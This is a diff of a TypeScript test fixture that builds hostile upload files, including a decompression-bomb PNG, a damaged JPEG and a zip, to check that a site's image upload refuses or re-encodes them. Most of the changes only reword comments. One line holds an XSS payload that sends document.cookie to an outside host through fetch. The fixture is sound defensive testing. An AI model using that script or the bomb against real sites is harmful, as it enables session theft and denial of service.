@@ -2,13 +2,11 @@ import { randomBytes } from 'node:crypto';
 import { crc32, deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
 
-/**
- * A mark that a stranger's file carries, and that no file sent by the site may have anywhere in its bytes.
- */
+/** A mark in a stranger's file. No file that the site serves may contain its bytes. */
 export const mark = 'windfall-hostile-mark';
 const script = `<script>/* ${mark} */fetch('https://example.org/'+document.cookie)</script>`;
 
-/** Words of each reason to refuse a file. */
+/** The words of each reason to refuse a file. */
 const words = {
   kind: /not a photograph or drawing/,
   damaged: /damaged or not complete/,
@@ -19,7 +17,7 @@ const words = {
   large: /larger than 20 MB/,
 };
 
-/** A file, how it is sent, and what becomes of it: it is made anew, or refused in these words. */
+/** A file, how it is sent, and the result: the site encodes it anew, or refuses it with these words. */
 export interface HostileFile {
   name: string;
   bytes: Buffer;
@@ -51,7 +49,7 @@ function chunk(name: string, data: Buffer): Buffer {
 
 const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
-/** Returns a PNG of one grey, of any size, a bit a pixel: 1,000 times smaller than its pixels. */
+/** Returns a one-bit grey PNG of any size. The file is 1,000 times smaller than its pixels. */
 function flatPng(width: number, height: number, rows = height): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -106,9 +104,9 @@ const zip = Buffer.concat([
   Buffer.alloc(18),
 ]);
 
-/** Returns the hostile files: each kind of trick that an upload is known for, all made here. */
+/** Returns the hostile files, one for each known kind of attack by an upload. All are generated here. */
 export async function makeHostileFiles(): Promise<HostileFile[]> {
-  // Hardly larger than what is refused as too small: encoding is what costs.
+  // Hardly larger than the smallest accepted size, because encoding takes most of the time.
   const jpeg = await noise(96, 64).jpeg().toBuffer();
   const png = await noise(72, 64).png().toBuffer();
   const webp = await noise(72, 64).webp().toBuffer();
@@ -297,7 +295,7 @@ export async function makeHostileFiles(): Promise<HostileFile[]> {
   ];
 }
 
-/** Returns a JPEG whose pixels are changed at random, behind a sound head. */
+/** Returns a JPEG with an intact header and damaged pixels. */
 function scrambled(jpeg: Buffer): Buffer {
   const changed = Buffer.from(jpeg);
   const start = changed.indexOf(Buffer.from([0xff, 0xda])) + 20;
